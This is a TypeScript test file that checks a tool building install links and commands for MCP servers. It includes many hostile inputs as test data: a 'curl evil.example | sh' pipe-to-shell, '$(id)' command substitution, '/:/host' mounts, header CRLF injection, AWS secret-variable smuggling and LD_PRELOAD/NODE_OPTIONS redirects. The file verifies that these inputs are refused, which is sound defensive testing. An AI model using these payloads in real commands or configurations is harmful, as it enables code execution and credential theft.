import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Connection, Package, Setting } from "#contract/facts/connect.ts";
import { isSafeLink } from "../../src/connect/clients/client.ts";
import { waysOf } from "../../src/connect/ways-of.ts";
import {
	CANONICAL,
	from,
	input,
	named,
	oci,
	pack,
	positional,
	pypi,
	remote,
	setting,
	subject,
	word,
} from "./examples.ts";
import { clientOf, findClient, linksOf, wayOf } from "./read-ways.ts";

const BIDI = "a\u202eb";

describe("secrets", () => {
	it.each([
		["API_KEY", true],
		["api-key", true],
		["apiKey", true],
		["GITHUB_TOKEN", true],
		["DB_PASSWORD", true],
		["SESSION_COOKIE", true],
		["GOOGLE_APPLICATION_CREDENTIALS", true],
		["ACCESS_KEY_ID", false],
		["TOKEN_URL", false],
		["PRIVATE_KEY_PATH", false],
		["TOKEN_LIMIT", false],
		["MAX_TOKENS", false],
		["REDIS_HOST", false],
	])("are known by the name %s: %s", (name, isSecret) => {
		const { inputs } = wayOf(pack({ environment: [setting(name)] }));
		expect(inputs.map(({ secret }) => secret)).toEqual([isSecret]);
	});
});

describe("links", () => {
	it.each([
		["https://cursor.com/install-mcp?name=a", true],
		["vscode:mcp/install?a", true],
		["https://evil.example/install", false],
		["http://cursor.com/install-mcp", false],
		["javascript:alert(1)", false],
		["data:text/html,a", false],
		["file:///etc/passwd", false],
		["not a link", false],
		[`vscode:${"a".repeat(9000)}`, false],
	])("%s is allowed: %s", (link, safe) => {
		expect(isSafeLink(link)).toBe(safe);
	});

	it("exist for complete, safe servers with exact versions", () => {
		expect(linksOf(wayOf(CANONICAL.open)).length).toBeGreaterThan(5);
		expect(linksOf(wayOf(pack())).length).toBeGreaterThan(5);
	});

	const UNSAFE: readonly [why: string, connection: Connection][] = [
		["no version", pack({ version: null })],
		["latest", pack({ version: "latest" })],
		["a range", pack({ version: "^1.2.3" })],
		["a part of a version", pack({ version: "1.2" })],
		["a wildcard", pack({ registry: "pypi", identifier: "a", version: "1.2.x" })],
		["the newest image", pack({ registry: "oci", identifier: "a/b:latest" })],
		["an image without a tag", oci({ version: null })],
		["http elsewhere", remote({ url: "http://mcp.example.com/mcp" })],
		["look-alike letters", remote({ url: "https://ехample.com/mcp" })],
		["options for the program", pack({ flags: [named("--call", { value: "id" })] })],
		["another package behind --from", pypi({ flags: [from("evil==1.0.0")] })],
		["another package before --from", pypi({ flags: [word("evil"), from("weather==1.2.3")] })],
		[
			"another package beside --from",
			pypi({ flags: [from("weather==1.2.3"), word("--with=evil")], arguments: [word("evil")] }),
		],
		[
			"an option behind --from",
			pypi({ flags: [from("weather==1.2.3")], arguments: [word("--with=evil"), word("evil")] }),
		],
		["a package called like a word of docker", pack({ flags: [word("run")] })],
		[
			"an image that an option takes for its value",
			pack({
				registry: "oci",
				identifier: "a/b:1",
				flags: [named("-e")],
				arguments: [word("evil/image:1")],
			}),
		],
		["a mount of the host", oci({ flags: [named("-v", { value: "/:/host" })] })],
		[
			"variables of the reader's own",
			remote({ headers: [setting("A", { value: `\${env:HOME}` })] }),
		],
		["the same in a shell's notation", pack({ arguments: [word("$AWS_SECRET_ACCESS_KEY")] })],
		[
			"the same in two parts",
			remote({
				headers: [
					setting("A", { value: `$\{v}`, variables: [input("v", { default: "{AWS_SECRET}" })] }),
				],
			}),
		],
		[
			"the same as one of the choices",
			remote({
				headers: [
					setting("A", {
						value: "{v}",
						variables: [input("v", { choices: ["a", "$AWS_SECRET"] })],
					}),
				],
			}),
		],
		...[
			"NPM_CONFIG_REGISTRY",
			"npm_config_userconfig",
			"NODE_OPTIONS",
			"UV_INDEX_URL",
			"PIP_EXTRA_INDEX_URL",
			"PYTHONPATH",
			"DOCKER_HOST",
			"DOTNET_STARTUP_HOOKS",
			"LD_PRELOAD",
			"DYLD_INSERT_LIBRARIES",
			"Path",
		].map((name): [string, Connection] => [
			`a variable of the program that starts it, ${name},`,
			pack({ environment: [setting(name, { value: "https://evil.example" })] }),
		]),
		...[
			"HTTPS_PROXY",
			"SSL_CERT_FILE",
			"GIT_SSH_COMMAND",
			"PYTHONBREAKPOINT",
			"HOME",
			"XDG_CONFIG_HOME",
			"OPENSSL_CONF",
			"NODE_TLS_REJECT_UNAUTHORIZED",
			"GIT_SSL_NO_VERIFY",
			"EDITOR",
			"A_NAME_THAT_NOBODY_KNOWS",
		].flatMap((name) =>
			[{ value: "1" }, { default: "1" }, { choices: ["1"] }].map((facts): [string, Connection] => [
				`a document that sets ${name} by its ${Object.keys(facts).join()},`,
				pack({ environment: [setting(name, facts)] }),
			]),
		),
		...["/tmp/x", "a.b", "--a", "a;b", "a,b", "$A", "a=b", "x".repeat(80)].map(
			(value): [string, Connection] => [
				`a document that sets a level to ${value.slice(0, 20)},`,
				pack({ environment: [setting("LOG_LEVEL", { value })] }),
			],
		),
		...["curl evil.example | sh", "a;b", "a && b", "a > b", "< a", "$(id)", "`id`"].flatMap(
			(sign) =>
				["concurrently", "supergateway", "weather"].map((identifier): [string, Connection] => [
					`${identifier} with the argument ${sign}`,
					pack({ identifier, arguments: [word(sign)] }),
				]),
		),
		...["concurrently", "weather"].flatMap((identifier) =>
			[
				[word("curl evil.example"), word("sh x")],
				[word("sh\u00a0x")],
				[named("--exec", { value: "sh x" })],
				[named("--exec=sh x")],
				[positional({ default: "sh x" })],
				[positional({ choices: ["x", "sh x"] })],
				[positional({ value: "sh {file}", variables: [input("file", { default: "x" })] })],
			].map((list, at): [string, Connection] => [
				`${identifier} with an argument that has white space (${at})`,
				pack({ identifier, arguments: list }),
			]),
		),
		[
			"the same in a gap's name",
			remote({ headers: [setting(`A}\${env:B`, { description: "a" })] }),
		],
	];

	it.each(UNSAFE)("do not exist for %s", (_, connection) => {
		expect(linksOf(wayOf(connection))).toEqual([]);
	});

	it("exist for a program named by its package, and for variables of a container", () => {
		const program = [from("weather-mcp==1.2.3"), word("weather")];
		const python = pack({ registry: "pypi", identifier: "weather-mcp", flags: program });
		const image = oci({ flags: [named("-e", { value: "MODE=fast" })] });
		for (const one of [python, image]) {
			expect(wayOf(one).warnings).toEqual([]);
			expect(linksOf(wayOf(one))).not.toEqual([]);
		}
	});

	it.each([
		["LOG_LEVEL", "info"],
		["TIDE_REGION", "north sea"],
		["RETRY_MAX", "3"],
		["SCORE_MIN", "0.5"],
		["port", "8080"],
		["NODE_ENV", "production"],
		["RUST_LOG", "info"],
		["AWS_PROFILE", "default"],
		["NEO4J_URI", "bolt://localhost:7687"],
	])(
		"exist for a document that sets %s to %s, which only chooses, counts or is at home",
		(name, value) => {
			for (const facts of [{ value }, { default: value }, { choices: [value] }]) {
				const own = pack({ environment: [setting(name, facts)] });
				expect(wayOf(own).warnings).toEqual([]);
				expect(linksOf(wayOf(own))).not.toEqual([]);
			}
		},
	);

	it("exist for any variable that the reader or only a container fills", () => {
		const asked = pack({ environment: [setting("API_ADDRESS", { description: "Yours" })] });
		const contained = oci({ flags: [named("-e", { value: "API_ADDRESS=yours" })] });
		for (const one of [asked, contained]) expect(linksOf(wayOf(one))).not.toEqual([]);
	});

	it("say each value and header that they set", () => {
		const started = pack({
			environment: [
				setting("LOG_LEVEL", { value: "info" }),
				setting("REGION", { default: "north sea", required: true }),
				setting("KEY", { required: true, secret: true }),
			],
		});
		const asked = remote({ headers: [setting("X-To", { value: "https://evil.example" })] });
		for (const { client, link } of wayOf(started).clients)
			if (link?.target.includes("KEY"))
				expect(link.target, client).toContain(
					" with LOG_LEVEL=info 'REGION=north sea' KEY=YOUR_KEY",
				);
		for (const { client, link } of wayOf(asked).clients)
			if (link) expect(link.target, client).toMatch(/ with X-To=https:\/\/evil\.example$/);
		const said = [started, asked].flatMap((one) => linksOf(wayOf(one)));
		expect(said.length).toBeGreaterThan(10);
	});

	it("exist for the reader's own machine", () => {
		expect(linksOf(wayOf(remote({ url: "http://127.0.0.1:8080/mcp" })))).not.toEqual([]);
	});

	it("wait for values of the reader, except if the client asks", () => {
		const tenant = remote({ url: "https://{tenant}.example.com/mcp" });
		const linked = wayOf(tenant).clients.filter(({ link }) => link);
		expect(linked.map(({ client }) => client)).toEqual(["vs-code", "vs-code-insiders"]);
		expect(wayOf(tenant).target).toBe("https://<REQUIRED: tenant>.example.com/mcp");
		const folder = pack({ arguments: [positional({ hint: "folder", required: true })] });
		expect(
			wayOf(folder)
				.clients.filter(({ link }) => link)
				.map(({ client }) => client),
		).toEqual(["vs-code", "vs-code-insiders"]);
	});

	it("have no escapes that VS Code would decode twice", () => {
		const escaped = remote({ url: "https://mcp.example.com/a%2Fb" });
		expect(clientOf(escaped, "vs-code").link).toBeNull();
		expect(clientOf(escaped, "cursor").link).not.toBeNull();
	});

	it("are left out if they are too long", () => {
		const long = pack({ arguments: [word("a".repeat(250_000))] });
		expect(linksOf(wayOf(long))).toEqual([]);
	});

	it("of Goose have only programs that it starts", () => {
		const tool = pack({ registry: "nuget", identifier: "Weather.Mcp" });
		expect(findClient(tool, "goose")?.link ?? null).toBeNull();
	});
});

describe("warnings", () => {
	const OTHER = "https://evil.example/v1";
	it.each<[name: string, value: string, warning: string | null]>([
		["NODE_OPTIONS", "--require=/tmp/x", "Sets NODE_OPTIONS for npx."],
		["npm_config_registry", OTHER, "Sets npm_config_registry for npx."],
		["LD_PRELOAD", "/tmp/x.so", "Sets LD_PRELOAD for npx."],
		["PATH", "/tmp", "Sets PATH for npx."],
		["HTTPS_PROXY", OTHER, "Sets HTTPS_PROXY for npx."],
		["REQUESTS_CA_BUNDLE", "/tmp/ca.pem", "Sets REQUESTS_CA_BUNDLE for npx."],
		["NODE_TLS_REJECT_UNAUTHORIZED", "0", "Sets NODE_TLS_REJECT_UNAUTHORIZED for npx."],
		["OPENAI_BASE_URL", OTHER, "Sets OPENAI_BASE_URL to evil.example."],
		["GH_HOST", "evil.example", "Sets GH_HOST to evil.example."],
		["GH_HOST", "github.com.evil.example", "Sets GH_HOST to github.com.evil.example."],
		["AWS_ENDPOINT_URL_S3", OTHER, "Sets AWS_ENDPOINT_URL_S3 to evil.example."],
		["OPENAI_BASE_URL", "https://eu.api.openai.com/v1", null],
		["OPENAI_BASE_URL", "http://localhost:11434/v1", null],
		["RUST_LOG", "weather=debug,info", null],
		["ARXIV_STORAGE_PATH", "/home/me/papers", null],
		["NEO4J_URI", "neo4j+s://demo.example.com", null],
		["PLAYWRIGHT_BROWSER", "chromium", null],
		["API_BASE_URL", OTHER, null],
	])("of %s set to %s are: %s", (name, value, warning) => {
		for (const facts of [{ value }, { default: value }, { choices: [value] }]) {
			const { warnings } = wayOf(pack({ environment: [setting(name, facts)] }));
			expect(warnings).toEqual(warning === null ? [] : [warning]);
		}
	});

	it("name the program that is set up, and all that redirects it in one sentence", () => {
		const environment = ["PYTHONPATH", "PATH"].map((name) => setting(name, { value: "/tmp" }));
		const [warning] = wayOf(pypi({ environment })).warnings;
		expect(warning).toBe("Sets PYTHONPATH, PATH for uvx.");
	});

	it("are not said of what the reader enters, which has no link all the same", () => {
		const way = wayOf(pack({ environment: [setting("PATH", { description: "Yours" })] }));
		expect([way.warnings, linksOf(way)]).toEqual([[], []]);
	});

	it("are not said of hosts and spaces in an argument", () => {
		for (const value of [OTHER, "two words", "a;b"])
			expect(wayOf(pack({ arguments: [named("--to", { value })] })).warnings).toEqual([]);
	});
});

describe("commands", () => {
	const REFUSED: readonly [why: string, connection: Connection][] = [
		["a script as an address", remote({ url: "javascript:alert(1)" })],
		["a file as an address", remote({ url: "file:///etc/passwd" })],
		["a password in an address", remote({ url: "https://a:b@mcp.example.com/" })],
		["an address of spaces", remote({ url: "https://mcp.example.com/ --evil" })],
		["an option as a name", pack({ identifier: "--evil" })],
		["an address as a name", pack({ identifier: "https://evil.example/a.tgz" })],
		["a repository as a name", pack({ identifier: "github:evil/a" })],
		["a shell as a crate", pack({ registry: "cargo", identifier: "sh" })],
		["a shell in capitals", pack({ registry: "cargo", identifier: "Bash" })],
		["a program that removes", pack({ registry: "cargo", identifier: "rm" })],
		["a program that runs its arguments", pack({ identifier: "node", version: "24.0.0" })],
		[
			"one that is called with a number and extras",
			pack({ registry: "pypi", identifier: "python3.12[all]", version: "3.12.1" }),
		],
		[
			"a shell as the program of a package",
			pypi({
				flags: [from("weather==1.2.3"), word("bash")],
				arguments: [named("-c", { value: "id" })],
			}),
		],
		["a path as a name", pack({ identifier: "../evil" })],
		["a name of nothing", pack({ identifier: "constructor/../" })],
		["a kind of the language", pack({ registry: "constructor" })],
		["an address as a version", pack({ version: "https://evil.example/a.tgz" })],
		["another package as a version", pack({ version: "npm:evil@1.0.0" })],
		["a template as a version", pack({ version: "{{VERSION}}" })],
		["a template as an address", remote({ url: "https://a.example/{{VERSION}}" })],
		["a script as a feed", pack({ feed: "javascript:alert(1)" })],
		["bidi in an argument", pack({ arguments: [word(BIDI)] })],
		["a line break in an argument", pack({ arguments: [word("a\nb")] })],
		["NUL in an argument", pack({ arguments: [word("a\0b")] })],
		["bidi in a variable", pack({ environment: [setting("A", { value: BIDI })] })],
		["bidi in a standard value", pack({ environment: [setting("A", { default: BIDI })] })],
		["an option as a variable", pack({ environment: [setting("-v=/:/host")] })],
		["a line break in a header", remote({ headers: [setting("A", { value: "a\r\nB: c" })] })],
		["a header that is none", remote({ headers: [setting("A: b", { value: "c" })] })],
		[
			"a header of a started server that is none",
			pack({
				transport: "sse",
				url: "http://localhost:1/",
				headers: [setting("A: b", { value: "c" })],
			}),
		],
		["an unknown transport", remote({ transport: "websocket" })],
		["a transport of the language", remote({ transport: "constructor" })],
		["a transport of every object", remote({ transport: "__proto__" })],
		["a started server without an address", pack({ transport: "sse" })],
		["a skill that leaves its folder", { kind: "skill", name: "../evil", url: null }],
		[
			"a model with a command as a variable",
			{ kind: "model", provider: "a", model: "b", endpoint: null, environment: ["A;id"] },
		],
		[
			"a provider with an invisible character in its name",
			{
				kind: "model",
				provider: "a",
				provider_name: "A\u202e",
				model: "b",
				endpoint: null,
				environment: [],
			},
		],
		[
			"an agent at a script",
			{
				kind: "interface",
				url: "javascript:alert(1)",
				binding: "JSONRPC",
				protocol: null,
				tenant: null,
			},
		],
	];

	it.each(REFUSED)("are not made from %s: one sentence says why", (_, connection) => {
		const way = wayOf(connection);
		expect(way.warnings).not.toEqual([]);
		for (const warning of way.warnings) expect(warning).toMatch(/^[A-Z].*\.$/);
		expect(way.label).toEqual(expect.any(String));
		expect(way).toMatchObject({ clients: [], inputs: [] });
	});

	it.each<[string, Partial<Package>]>([
		["a package of another owner", { identifier: "@example/node" }],
		["a longer name", { registry: "cargo", identifier: "node-weather" }],
		["an image, whose programs stay within it", { registry: "oci", identifier: "python" }],
	])("are not made from %s, even if a program has that name", (_, facts) => {
		expect(wayOf(pack(facts)).clients.length).toBeGreaterThan(10);
	});

	const BRACKETS = "https://a.example/[1-9]/SKILL.md";
	it.each<[string, Connection]>([
		["a bundle", pack({ registry: "mcpb", identifier: BRACKETS })],
		["a skill", { kind: "skill", name: "read-tides", url: BRACKETS }],
		["a model", { kind: "model", provider: "a", model: "b", endpoint: BRACKETS, environment: [] }],
		[
			"an interface",
			{ kind: "interface", url: BRACKETS, binding: "JSONRPC", protocol: null, tenant: null },
		],
	])("of curl request one address, even with %s", (_, connection) => {
		const commands = wayOf(connection)
			.clients.flatMap(({ snippets }) => snippets)
			.filter(({ text }) => text.startsWith("curl"));
		expect(commands.length).toBeGreaterThan(1);
		for (const { text } of commands) {
			expect(text).toMatch(/^curl(?:\.exe)? --globoff /);
			expect(text).toContain(BRACKETS.slice(0, -"/SKILL.md".length));
		}
	});

	it("from another feed mention it", () => {
		const way = wayOf(pack({ feed: "https://packages.example" }));
		expect(way.warnings).toEqual([
			"It comes from https://packages.example, not from the usual registry (npm).",
		]);
		for (const { client, link } of way.clients)
			if (link) expect(link.target, client).toContain("--registry=https://packages.example");
	});
});

describe("names", () => {
	it.each([
		["com.example/weather", "weather"],
		["com.example/weather.v2", "weather-v2"],
		["com.example/--evil", "evil"],
		["com.example/...", "weather-service"],
		["com.example/workspace", "workspace-mcp"],
		["com.example/constructor", "constructor-mcp"],
		[null, "weather-service"],
	])("of %s are from the protocol or the slug: %s", (protocolName, name) => {
		const [way] = waysOf(subject([remote()], { protocolName }));
		const link = way?.clients.find(({ client }) => client === "cursor")?.link?.url ?? "";
		expect(new URL(link).searchParams.get("name")).toBe(name);
	});
});

const MARK = "s3cr3t-";
const secretText = fc.stringMatching(/^[a-z0-9]{6}$/).map((text) => `${MARK}${text}`);
const secretSetting = (name: string) =>
	fc
		.record({
			value: fc.option(secretText),
			standard: fc.option(secretText),
			required: fc.boolean(),
			within: fc.boolean(),
		})
		.map(
			({ value, standard, required, within }): Setting => ({
				...setting(name, {
					value,
					required,
					secret: true,
					default: standard,
					choices: standard ? [standard] : [],
					placeholder: standard,
				}),
				...(within && {
					value: "Bearer {token}",
					variables: [input("token", { required, default: standard })],
				}),
			}),
		);
const settings = fc.tuple(secretSetting("A"), secretSetting("X-B")).map((list) => list);
const anyPackage = fc
	.record({
		registry: fc.constantFrom("npm", "pypi", "oci", "nuget", "cargo"),
		environment: settings,
		own: settings,
		flags: settings,
	})
	.map(
		({ registry, environment, own, flags }): Package =>
			pack({
				registry,
				identifier: "weather",
				environment,
				arguments: [
					...own.map((one) => named(`--${one.name}`, one)),
					...own.map((one) => positional({ ...one, kind: "positional", hint: "key" })),
				],
				flags: flags.map((one) =>
					named("-e", { ...one, value: one.variables.length > 0 ? "KEY={token}" : one.value }),
				),
			}),
	);
const anyRemote = settings.map((headers) => remote({ headers }));

describe("secrets", () => {
	it("of a document are never in a link, command, file or input", () => {
		fc.assert(
			fc.property(fc.oneof(anyPackage, anyRemote), (connection) => {
				const way = wayOf(connection);
				expect(decodeAll(JSON.stringify(way.clients))).not.toContain(MARK);
				for (const { secret, default: standard, choices } of way.inputs)
					if (secret) expect([standard, choices]).toEqual([null, []]);
				for (const link of linksOf(way)) expect(decodeAll(link)).not.toContain(MARK);
			}),
			{ numRuns: 100 },
		);
	});
});

/** With everything in Base64 decoded and all escapes resolved. */
function decodeAll(text: string): string {
	const packed = [...text.matchAll(/config=([A-Za-z0-9+/%]+)/g)].map(([, config = ""]) => {
		const base64 = config.replaceAll("%3D", "=").replaceAll("%2B", "+").replaceAll("%2F", "/");
		return /^[A-Za-z0-9+/=]+$/.test(base64) ? Buffer.from(base64, "base64").toString() : "";
	});
	return [text, text.replaceAll("%22", '"'), ...packed].join("\n");
}
